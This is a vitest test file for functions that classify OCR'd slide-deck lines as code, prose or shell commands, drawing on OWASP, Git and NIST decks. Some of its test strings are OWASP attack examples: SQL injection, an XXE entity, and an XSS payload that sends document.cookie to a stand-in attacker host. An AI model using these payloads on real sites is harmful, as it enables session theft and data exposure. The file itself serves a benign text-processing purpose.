import { describe, expect, it } from 'vitest';
import { codeComment, codeLanguage, isCodeLine, isShellCommandLine, labelledCommand, sentenceThenCode, shellCommandName } from './code-lines.ts';

// Lines from the real decks (OWASP Top 10 2013, Microsoft's Git workshop, NIST OSCAL) and their prose neighbours.

describe('code lines', () => {
  it.each([
    '$ git add new-text-file.txt',
    'git config --global user.name "<Your-Full-Name>"',
    '"SELECT * FROM accounts WHERE acct=‘’ OR 1=1--’"',
    'String query = "SELECT * FROM accounts WHERE custID=\'" + request.getParameter("id") + "\'";',
    'try {',
    'catch ( ...',
    '}',
    'at com.acme.shop.Cart.add(Cart.java:42)',
    '<input name="token" value="687965fdfaew87agrde" type="hidden"/>',
    '<catalog xmlns="http://csrc.nist.gov/ns/oscal/1.0">',
    '"name": "value",',
    'x := 5',
  ])('%s is code', (line) => expect(isCodeLine(line)).toBe(true));

  it.each([
    'Use an interface that supports bind variables (e.g., prepared statements, or stored procedures),',
    'Try this in your browser – javascript:alert(document.cookie)',
    'Merged: 2010-A7 and 2010-A9 -> 2013-A6',
    'This command moves your changes to the staging area.',
    'Go to git-scm.com/downloads',
    'Keep the message short (less than 60-ish characters)',
    'Acct:5424-6066-2134-4334',
    'The <file> argument names the file',
  ])('%s is prose', (line) => expect(isCodeLine(line)).toBe(false));

  it('tells the language from the code, and finds comments and command names', () => {
    expect(codeLanguage(['git config --global color.ui auto'])).toBe('shell');
    expect(codeLanguage(['func main() {', 'x := 5', '}'])).toBe('Go');
    expect(codeLanguage(['public void doPost(HttpServletRequest request) {', '}'])).toBe('Java');
    expect(codeLanguage(['def check(user):', '    print(user)'])).toBe('Python');
    expect(codeLanguage(['const token = readToken();'])).toBe('JavaScript');
    expect(codeLanguage(['<control id="ac-1" class="SP800-53">', '</control>'])).toBe('XML');
    expect(codeLanguage(['{', '"name": "value"', '}'])).toBe('JSON');
    expect(codeLanguage(['SELECT name FROM users WHERE id = 1'])).toBe('SQL');
    expect(codeLanguage(['at com.acme.Cart.add(Cart.java:42)'])).toBe('stack-trace');
    expect(codeComment('# sets up Git with your name')).toBe('sets up Git with your name');
    expect(codeComment('#!/bin/sh')).toBeNull();
    expect(shellCommandName('$ git commit –m “Message”')).toBe('git commit');
    expect(shellCommandName('$ sudo apt-get install git')).toBe('apt-get install');
  });

  it('takes code OCR cut from a picture of a program for code, and prose beside it for prose', () => {
    for (const line of ['request.getParameter(', 'request.getRequestDispatcher( target', 'public void', 'public static', 'String target'])
      expect(isCodeLine(line), line).toBe(true);
    for (const line of ['Public Speaking', 'public services are open to all', 'long term', 'double check', 'Call request.getParameter() to read it.', 'int'])
      expect(isCodeLine(line), line).toBe(false);
  });

  it('splits a heading OCR read on the line of its command from the command, and nothing else', () => {
    expect(labelledCommand('VS Code Setup git config --global core.editor "code --wait"')).toEqual(['VS Code Setup', 'git config --global core.editor "code --wait"']);
    expect(labelledCommand('git config --global core.editor "atom --wait"')).toBeNull();
    expect(labelledCommand('Use git to track every change of your files')).toBeNull();
    expect(labelledCommand('Make sure you run git status before you commit')).toBeNull();
  });
});

describe('attack strings and code at the end of a sentence (the Hebrew OWASP 2017 deck, slides 8, 11 and 14)', () => {
  it('takes a markup declaration and an injection string for code, and prose about them for prose', () => {
    for (const line of ['<!ENTITY xxe SYSTEM "https://192.168.1.1/private" >]>', '<!DOCTYPE foo [', '<?xml version="1.0"?>',
      '\' or \'1\'=\'1. לדוגמא: http://example.com/app/accountView?id=\' or \'1\'=\'1', '\') OR 1=1', '\'><script>alert(1)</script>\'.'])
      expect(isCodeLine(line), line).toBe(true);
    for (const line of ['Either use OR or AND in a search.', 'The attacker\'s \'id\' value is sent as is.', 'Type <Enter> to continue when asked.'])
      expect(isCodeLine(line), line).toBe(false);
  });

  it('splits a sentence from the code it ends on, and leaves sentences ending on words alone', () => {
    expect(sentenceThenCode('התוקף מעדכן את פרמטר ‘CC’ בדפדפן ל: \'><script>document.location= \'http://www.attacker.com/cgi-bin/cookie.cgi? foo=\'+document.cookie</script>\'.')).toEqual([
      'התוקף מעדכן את פרמטר ‘CC’ בדפדפן ל:',
      '\'><script>document.location= \'http://www.attacker.com/cgi-bin/cookie.cgi? foo=\'+document.cookie</script>\'.',
    ]);
    expect(sentenceThenCode('Scenario #1: The application uses untrusted data in the following HTML snippet.')).toBeNull();
    expect(sentenceThenCode('For more details, read: https://www.owasp.org/index.php/Guide')).toBeNull();
    expect(sentenceThenCode('Use: <b>bold</b>')).toBeNull();
  });
});

describe('one shell command alone on its line', () => {
  it('is a command with its prompt, or a program and a plain sub-command as OCR reads a terminal without it', () => {
    expect(['$ git status', '$ git log --oneline', 'git status', 'git log', 'npm install'].map(isShellCommandLine)).toEqual([true, true, true, true, true]);
    // Image-only Git slides 11 and 21: a plain argument or a quoted message after the sub-command.
    expect(['apt-get install git', 'git commit “Initial commit”'].map(isShellCommandLine)).toEqual([true, true]);
  });
  it('is no command in English words or with more after it', () => {
    expect(['Git Status', 'cat food', 'git log shows history', '# sets up Git', 'git add new-text-'].map(isShellCommandLine)).toEqual([false, false, false, false, false]);
  });
});
